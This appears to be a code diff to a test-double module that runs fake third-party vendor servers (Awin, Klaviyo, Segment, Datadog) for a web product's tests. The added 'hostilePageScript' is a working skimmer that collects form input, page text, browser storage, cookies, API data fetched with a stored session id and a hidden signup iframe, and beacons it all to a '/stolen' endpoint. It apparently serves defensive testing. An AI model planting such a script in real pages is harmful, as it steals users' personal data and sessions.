@@ -6,33 +6,55 @@ const pixel = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBR
 
 const script = (body: string): VendorResponse => ({ type: "text/javascript", body });
 
-/** Awin's page script as documented: it looks for a sale when it starts and whenever `run` is called. */
-const awinScript = (tracking: string) => `(() => {
-  const awin = (window.AWIN ??= {});
-  awin.Tracking ??= {};
-  awin.Tracking.run = () => {
-    const report = new URLSearchParams({ page: location.pathname, sale: JSON.stringify(awin.Tracking.Sale ?? null) });
-    new Image().src = ${JSON.stringify(tracking)} + "/page?" + report;
-  };
-  awin.Tracking.run();
+/** A vendor's page script: reports each page on which it runs. */
+const pageScript = (vendor: string) => `(() => {
+  new Image().src = ${JSON.stringify(vendor)} + "/page?" + new URLSearchParams({ page: location.pathname });
 })();`;
 
-/** Klaviyo's script: sends the calls that wait in its queue. */
-const klaviyoScript = (ownUrl: string) => `(() => {
-  const send = (call) => fetch(${JSON.stringify(ownUrl)} + "/client", { method: "POST", body: JSON.stringify(call) });
-  (window._klOnsite ?? []).forEach(send);
-  window._klOnsite = { push: send };
+/**
+ * A page script that takes everything that it can reach: what is typed and shown, what the browser stores, the household's
+ * data from the API, and the enrollment in a frame. It also tries to survive in the enrollment.
+ */
+const hostilePageScript = (vendor: string) => `(() => {
+  const url = ${JSON.stringify(vendor)};
+  const send = (stolen) => navigator.sendBeacon(url + "/stolen", JSON.stringify({ page: location.pathname, stolen }));
+  const read = (from, doc) => {
+    for (const { value } of doc.querySelectorAll("input, select, textarea")) if (value) send([from, value]);
+    send([from, doc.body?.innerText ?? ""]);
+  };
+  const steal = () => {
+    send(["storage", { ...localStorage }, { ...sessionStorage }, document.cookie]);
+    const session = localStorage.getItem("session_id");
+    if (session) fetch("/api/session/" + session).then((response) => response.text()).then((text) => send(["api", text]));
+    read("page", document);
+    for (const frame of document.querySelectorAll("iframe")) {
+      try { read("frame", frame.contentDocument); } catch { /* another origin */ }
+    }
+  };
+  const frame = document.createElement("iframe");
+  frame.hidden = true;
+  frame.src = "/signup";
+  document.body.append(frame);
+  for (const event of ["input", "change", "submit", "click", "pagehide", "pageshow"]) addEventListener(event, steal, true);
+  setInterval(steal, 250);
+  steal();
 })();`;
 
 /** All vendors as local servers, with the environment that points the product to them. */
 export class ThirdPartyDoubles {
+  private readonly pageScript: (vendor: string) => string;
+
+  constructor({ isHostile = false } = {}) {
+    this.pageScript = isHostile ? hostilePageScript : pageScript;
+  }
+
   readonly tracking = new VendorServer(({ path }) =>
     path === "/sread.php" ? { type: "text/plain", body: "OK" } : { type: "image/gif", body: pixel },
   );
-  readonly scripts: VendorServer = new VendorServer(() => script(awinScript(this.tracking.url)));
+  readonly scripts: VendorServer = new VendorServer(() => script(this.pageScript(this.tracking.url)));
   readonly segment = new VendorServer();
   readonly klaviyo: VendorServer = new VendorServer(({ path }) =>
-    path.endsWith(".js") ? script(klaviyoScript(this.klaviyo.url)) : {},
+    path.endsWith(".js") ? script(this.pageScript(this.klaviyo.url)) : {},
   );
   readonly datadog = new VendorServer(() => ({ status: 202 }));
 
@@ -69,6 +91,7 @@ export class ThirdPartyDoubles {
       SEGMENT_API: `${this.segment.url}/v1`,
       KLAVIYO_COMPANY_ID: "Ab12Cd",
       KLAVIYO_SCRIPTS: this.klaviyo.url,
+      KLAVIYO_API: this.klaviyo.url,
       DATADOG_APPLICATION_ID: "11112222-3333-4444-5555-666677778888",
       DATADOG_CLIENT_TOKEN: "pub0123456789abcdef0123456789abcdef",
       DATADOG_SITE: "datadoghq.com",
